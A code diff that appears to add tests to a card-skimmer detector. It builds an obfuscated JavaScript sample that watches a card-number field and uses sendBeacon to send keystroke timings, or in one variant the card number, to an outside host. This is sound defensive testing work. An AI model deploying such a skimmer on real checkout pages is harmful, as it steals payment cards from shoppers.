@@ -3,6 +3,8 @@ lowered in a script static analysis read whole — and only there."""
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from skimscan.models import Severity, Verdict
@@ -67,3 +69,53 @@ def test_a_look_alike_or_known_bad_host_is_never_lowered(host: str, analyze) -> 
     report = analyze(TIMINGS.replace(VENDOR, host))
     assert report.verdict is Verdict.MALICIOUS
     assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))
+
+
+def obfuscated(n: str = "card[_0x1c(0xb)][_0x1c(0xc)]", extra: str = "") -> str:
+    """TIMINGS as an obfuscator leaves it: names made `_0x…`, every string in a base64
+    string array read through an accessor (javascript-obfuscator's string-array preset)."""
+    words = ["querySelector", "#cc_number", "addEventListener", "keydown", "now", "push",
+             "#pay", "click", "sendBeacon", VENDOR, "stringify", "value", "length"]
+    table = ", ".join(repr(base64.b64encode(w.encode()).decode()) for w in words)
+
+    def s(w: str) -> str:
+        return f"_0x1c(0x{words.index(w):x})"
+
+    return (
+        f"var _0x3f2a = [{table}];\n"
+        "function _0x1c(_0x4b1e) { _0x4b1e = _0x4b1e - 0x0; return atob(_0x3f2a[_0x4b1e]); }\n"
+        "var _0x5d7c = 0x0, _0x2e9f = [];\n"
+        f"var card = document[{s('querySelector')}]({s('#cc_number')});\n"
+        f"card[{s('addEventListener')}]({s('keydown')}, function () {{ var _0x1a8b = "
+        f"Date[{s('now')}](); if (_0x5d7c) _0x2e9f[{s('push')}](_0x1a8b - _0x5d7c); "
+        "_0x5d7c = _0x1a8b; });\n"
+        f"document[{s('querySelector')}]({s('#pay')})[{s('addEventListener')}]({s('click')}, "
+        "function () {\n"
+        f"  var _0x3c4d = {{gaps: _0x2e9f, n: {n}}}, _0x6e1f = {s(VENDOR)}, _0x7a2b = 0x1;\n"
+        f"  navigator[{s('sendBeacon')}](_0x6e1f, JSON[{s('stringify')}](_0x3c4d));{extra}\n"
+        "});\n")
+
+
+def test_an_obfuscated_script_the_rewrite_undid_is_weighed_on_its_clean_program(  # type: ignore[no-untyped-def]
+        analyze) -> None:
+    """Obfuscation alone is no data path: once deobfuscation undid every use of its string
+    array, the clean program is read whole, and the vendor still gets only timings."""
+    report = analyze(obfuscated())
+    found = {f.rule: f for f in lowered(report)}
+    assert found["obfuscated-card-collector"].evidence["lowered_from"] == "critical"
+    assert all(f.severity is Severity.MEDIUM for f in found.values())
+    assert report.verdict is Verdict.SUSPICIOUS
+
+
+def test_an_obfuscated_script_that_sends_the_card_stays_malicious(analyze) -> None:  # type: ignore[no-untyped-def]
+    report = analyze(obfuscated(n="card[_0x1c(0xb)]"))
+    assert report.verdict is Verdict.MALICIOUS
+    assert all("lowered_from" not in f.evidence for f in lowered(report))
+
+
+def test_a_decoder_still_called_at_run_time_keeps_the_combinations(analyze) -> None:  # type: ignore[no-untyped-def]
+    """One call the rewrite could not replace (its index is known only at run time) may name
+    the method or the host: the clean program is not all there is."""
+    report = analyze(obfuscated(extra=" _0x2e9f[_0x1c(Date.now() % 0x3)];"))
+    assert report.verdict is Verdict.MALICIOUS
+    assert all("lowered_from" not in f.evidence for f in lowered(report))
